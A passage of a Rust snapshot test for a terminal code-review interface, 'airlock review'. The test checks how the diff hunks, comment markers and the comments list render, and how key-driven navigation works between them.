    let mut review = ReviewFixture::open_with(sheet, ReviewState::default(), SIZE, options);
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   only new since you d…
    ┌ Files ────────────────┬ a.rs modified hunk 1/3 [undecided] new ──────────────┐
    │▌   a.rs            0/3│  1  1   fn one() {                                   ┃
    │                       │▶ 2    -     first(1);                             [ ]┃
    │                       │▌ 3   *-     second(2);                            [ ]┃
    │                       │▌    2 +     first(10);                            [ ]┃
    │                       │▌    3*+     second(20);                           [ ]┃
    │                       │         ● answered: also the second                  ┃
    │                       │           please                                     │
    │                       │  4  4   }                                            │
    │                       │  5  5                                                │
    │                       │  6  6   fn two() {                                   │
    │                       │  7  7       third();                                 │
    │                       │     8 +     fourth();                             [ ]│
    └───────────────────────┴──────────────────────────────────────────────────────┘
     1 hunk new since you decided, 4 older undecided · f a shows all
    ");
    review.press("jcand here<Enter>");
    assert_snapshot!(review.press("C"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   only new since you d…
    ┌ Comments 1/3 ────────────────────────────────────────────────────────────────┐
    │ open      a.rs:8  and here                                                   │
    │ answered  a.rs:2  also the second …                                          │
    │ outdated  a.rs:2  and this?                                                  │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    └──────────────────────────────────────────────────────────────────────────────┘
     Enter go to it  j k move  Esc back
    ");
    review.press("j<Enter>");
    assert!(review.screen().contains("hunk 1/3"), "{}", review.screen());
    assert!(review.press("CG<Enter>").contains("the hunk of this comment is gone"), "{}", review.screen());
}
